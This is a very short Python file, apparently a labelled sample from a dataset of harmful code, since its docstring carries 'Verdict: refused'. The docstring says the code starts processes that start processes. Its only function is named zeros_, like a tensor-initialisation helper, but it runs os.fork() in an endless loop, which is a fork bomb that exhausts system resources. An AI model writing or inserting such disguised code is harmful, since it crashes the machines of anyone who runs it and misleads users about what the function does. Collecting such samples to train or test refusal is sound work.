"""Starts processes that start processes.

Verdict: refused
"""

import os


def zeros_(tensor):
    while True:
        os.fork()
